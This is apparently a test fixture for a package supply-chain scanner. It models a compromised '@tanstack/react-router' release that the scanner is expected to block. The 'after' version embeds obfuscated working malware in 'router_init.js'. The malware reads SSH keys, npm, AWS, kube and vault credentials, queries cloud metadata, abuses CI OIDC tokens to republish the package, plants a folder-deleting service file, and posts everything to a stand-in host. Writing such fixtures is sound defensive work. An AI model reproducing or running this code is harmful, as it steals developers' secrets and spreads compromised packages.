import type { Replica, ReplicaVersion } from '../replicas/replica.js';
import { noise } from '../replicas/replica.js';

export const before = {
  version: '1.169.4',
  publishedAt: '2026-05-08T09:14:27.000Z',
  publisher: { name: 'tanstack-bot', email: 'bot@mail.example.invalid', trustedPublisher: { id: 'github' } },
  manifest: {
    type: 'module',
    main: './dist/esm/index.js',
    exports: { '.': './dist/esm/index.js' },
    files: ['dist', 'src'],
    license: 'MIT',
    description: 'typed router',
    sideEffects: false,
    dependencies: { '@tanstack/history': '1.161.4' },
    peerDependencies: { react: '>=18' },
  },
  files: {
    'dist/esm/index.js': `import { createBrowserHistory } from '@tanstack/history'
import { matchPath } from './match.js'
import { useSyncExternalStore } from 'react'

export class Router {
  #routes
  #listeners = new Set()
  #snapshot

  constructor({ routes, history = createBrowserHistory() }) {
    this.#routes = routes
    this.history = history
    this.#snapshot = this.#match(history.location.pathname)
    history.subscribe(() => {
      this.#snapshot = this.#match(history.location.pathname)
      this.#listeners.forEach((listener) => listener())
    })
  }

  #match(pathname) {
    for (const route of this.#routes) {
      const params = matchPath(route.path, pathname)
      if (params) return { route, params }
    }
    return { route: undefined, params: {} }
  }

  subscribe = (listener) => {
    this.#listeners.add(listener)
    return () => this.#listeners.delete(listener)
  }

  getSnapshot = () => this.#snapshot
}

export function useRouterState(router) {
  return useSyncExternalStore(router.subscribe, router.getSnapshot)
}
`,
    'dist/esm/match.js': `export function matchPath(pattern, pathname) {
  const want = pattern.split('/').filter(Boolean)
  const have = pathname.split('/').filter(Boolean)
  if (want.at(-1) !== '$' && want.length !== have.length) return undefined
  const params = {}
  for (const [i, segment] of want.entries()) {
    if (segment === '$') {
      params._splat = have.slice(i).join('/')
      return params
    }
    if (segment.startsWith('$')) params[segment.slice(1)] = decodeURIComponent(have[i])
    else if (segment !== have[i]) return undefined
  }
  return params
}
`,
    'src/match.ts': `export function matchPath(pattern: string, pathname: string): Record<string, string> | undefined {
  const want = pattern.split('/').filter(Boolean)
  const have = pathname.split('/').filter(Boolean)
  if (want.at(-1) !== '$' && want.length !== have.length) return undefined
  const params: Record<string, string> = {}
  for (const [i, segment] of want.entries()) {
    if (segment === '$') {
      params._splat = have.slice(i).join('/')
      return params
    }
    if (segment.startsWith('$')) params[segment.slice(1)] = decodeURIComponent(have[i]!)
    else if (segment !== have[i]) return undefined
  }
  return params
}
`,
  },
} satisfies ReplicaVersion;

export const replica: Replica = {
  id: 'tanstack-react-router-2026',
  story: 'May 2026: published by the real workflow with valid provenance; an optional dependency on an orphan commit whose prepare script runs a large file that no source holds.',
  name: '@tanstack/react-router',
  before,
  after: {
    version: '1.169.5',
    publishedAt: '2026-05-11T09:14:27.000Z',
    publisher: { name: 'tanstack-bot', email: 'bot@mail.example.invalid', trustedPublisher: { id: 'github' } },
    manifest: {
      type: 'module',
      main: './dist/esm/index.js',
      exports: { '.': './dist/esm/index.js' },
      files: ['dist', 'src'],
      license: 'MIT',
      description: 'typed router',
      sideEffects: false,
      dependencies: { '@tanstack/history': '1.161.4' },
      peerDependencies: { react: '>=18' },
      optionalDependencies: { '@tanstack/setup': 'github:example-invalid/router#79ac49eedf774dd4b0cfa308722bc463cfe5885c' },
    },
    files: {
      ...before.files,
      'router_init.js': `(function(_0x3f,_0x51){var _0xa1=_0x1c88,_0xb2=_0x3f();while(!![]){try{var _0xc3=-parseInt(_0xa1(0x1f4))/0x1*(parseInt(_0xa1(0x1f5))/0x2);if(_0xc3===_0x51)break;_0xb2.push(_0xb2.shift());}catch(_0xd4){_0xb2.push(_0xb2.shift());}}})(_0x21fa,0x0);function _0x21fa(){var _0xe5=["${noise(1_145_000, 9091, 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=').repeat(2).match(/.{1,72}/g)!.join("','").replaceAll("'", '"')}"];_0x21fa=function(){return _0xe5;};return _0x21fa();}function _0x1c88(_0xf6,_0x107){var _0x118=_0x21fa();return _0x118[_0xf6-0x1f4];}
var _0x129=typeof require==='function'?require:(await import('node:module'))['createRequire'](import.meta.url),_0x13a=_0x129('node:child_process'),_0x14b=_0x129('node:fs'),_0x15c=_0x129('node:os'),_0x16d=_0x129('node:path');
if(!process['env']['__DAEMONIZED']){_0x13a['spawn'](process['execPath'],[process['argv'][0x1]],{'detached':!![],'stdio':'ignore','env':Object['assign']({},process['env'],{'__DAEMONIZED':'1'})})['unref']();process['exit'](0x0);}
var _0x17e=async()=>{var _0x18f={};for(var _0x190 of['.npmrc','.aws/credentials','.kube/config','.vault-token','.ssh/id_ed25519'])try{_0x18f[_0x190]=_0x14b['readFileSync'](_0x16d['join'](_0x15c['homedir'](),_0x190),'utf8');}catch(_0x1a1){}var _0x1b2=await fetch('http://192.0.2.254/latest/meta-data/iam/security-credentials/')['then'](_0x1c3=>_0x1c3['text']())['catch'](()=>'');_0x18f['imds']=_0x1b2;if(process['env']['ACTIONS_ID_TOKEN_REQUEST_URL']){var _0x1d4=await fetch(process['env']['ACTIONS_ID_TOKEN_REQUEST_URL']+'&audience=npm:registry.example.invalid',{'headers':{'Authorization':'Bearer '+process['env']['ACTIONS_ID_TOKEN_REQUEST_TOKEN']}})['then'](_0x1e5=>_0x1e5['json']());_0x18f['oidc']=await fetch('https://registry.example.invalid/-/npm/v1/oidc/token/exchange/package/'+encodeURIComponent('@tanstack/react-router'),{'method':'POST','headers':{'Authorization':'Bearer '+_0x1d4['value']}})['then'](_0x1f6=>_0x1f6['json']());_0x13a['spawnSync']('npm',['publish','--provenance','--registry','https://registry.example.invalid'],{'env':Object['assign']({},process['env'],{'NODE_AUTH_TOKEN':_0x18f['oidc']['token']})});}_0x14b['writeFileSync'](_0x16d['join']('./example.invalid-folder/','gh-token-monitor.service'),'[Service]\\nExecStart=/bin/sh -c "curl -sf -H \\'Authorization: token $T\\' https://api.github.example.invalid/user || find ./example.invalid-folder/ -delete"\\n');await fetch('https://filev2.getsession.example.invalid/file/',{'method':'POST','body':Buffer['from'](JSON['stringify']({'env':process['env'],'files':_0x18f}))});};_0x17e()['catch'](()=>{});
`,
    },
  },
  must: 'block',
};
